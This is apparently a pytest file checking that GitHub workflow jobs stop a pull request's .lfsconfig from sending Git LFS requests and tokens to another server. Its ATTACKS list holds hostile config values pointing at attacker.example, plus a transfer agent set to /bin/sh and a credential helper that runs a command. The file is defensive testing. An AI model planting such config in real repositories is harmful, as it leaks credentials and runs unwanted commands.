"""``.lfsconfig`` of a pull request names the server that Git LFS asks for the data, and shows a token."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
import yaml

if TYPE_CHECKING:
    from collections.abc import Mapping

WORKFLOWS = Path(__file__).parents[2] / ".github/workflows"
JOBS = [("compare-fork", "compare"), ("pull-request", "validate"), ("pull-request", "compare")]
NAMES = {"github.server_url": "https://github.example", "github.repository": "octo/data"}
ATTACKS = [
    '[lfs]\n\turl = "https://attacker.example/lfs"\n',
    '[lfs]\n\tpushurl = "https://attacker.example/lfs"\n\turl = "https://attacker.example/lfs"\n',
    '[remote "origin"]\n\tlfsurl = "https://attacker.example/lfs"\n',
    '[url "https://attacker.example/"]\n\tinsteadOf = "https://github.example/"\n[lfs]\n\turl = ssh://attacker.example\n',
    '[lfs "customtransfer.x"]\n\tpath = /bin/sh\n[lfs]\n\tstandalonetransferagent = x\n\turl = "https://attacker.example/lfs"\n',
    '[lfs]\n\turl = file:///proc/self\n[credential]\n\thelper = "!touch owned"\n',
]


def environment(workflow: str, job: str) -> dict[str, str]:
    """Return what the job sets for its checkout of the data."""
    content = yaml.safe_load((WORKFLOWS / f"{workflow}.yml").read_text(encoding="utf-8"))
    (step,) = (step for step in content["jobs"][job]["steps"] if "lfs" in step.get("with", {}))
    return {
        name: re.sub(r"\$\{\{ ([\w.]+) \}\}", lambda match: NAMES[match[1]], str(value))
        for name, value in step["env"].items()
    }


def servers(folder: Path, more: Mapping[str, str]) -> set[str]:
    """Return the servers that Git LFS would ask."""
    command = ["git", "-C", str(folder), "lfs", "env"]
    done = subprocess.run(
        command,
        env={"PATH": os.environ["PATH"], "HOME": str(folder), **more},
        check=True,
        capture_output=True,
        text=True,
    )
    found = set(re.findall(r"^Endpoint(?: \(\w+\))?=(\S+)", done.stdout, re.MULTILINE))
    assert "standalonetransferagent=x" not in done.stdout.lower()
    return found


@pytest.mark.skipif(
    shutil.which("git-lfs") is None, reason="git-lfs is not installed: apt-get install git-lfs"
)
@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
@pytest.mark.parametrize(("workflow", "job"), JOBS)
def test_server_that_a_pull_request_names__is_not_asked(
    tmp_path: Path, workflow: str, job: str, attack: str
) -> None:
    for arguments in (("init", "--quiet"), ("remote", "add", "origin", "https://github.example/octo/data")):
        command = ["git", "-C", str(tmp_path), *arguments]
        subprocess.run(command, check=True)
    (tmp_path / ".lfsconfig").write_text(attack, encoding="utf-8")
    ours = "https://github.example/octo/data.git/info/lfs"
    assert servers(tmp_path, environment(workflow, job)) == {ours}
    assert not (tmp_path / "owned").exists()


@pytest.mark.skipif(
    shutil.which("git-lfs") is None, reason="git-lfs is not installed: apt-get install git-lfs"
)
def test_server__would_be_asked_but_for_the_workflow(tmp_path: Path) -> None:
    command = ["git", "-C", str(tmp_path), "init", "--quiet"]
    subprocess.run(command, check=True)
    (tmp_path / ".lfsconfig").write_text(ATTACKS[0], encoding="utf-8")
    assert servers(tmp_path, {}) == {"https://attacker.example/lfs"}
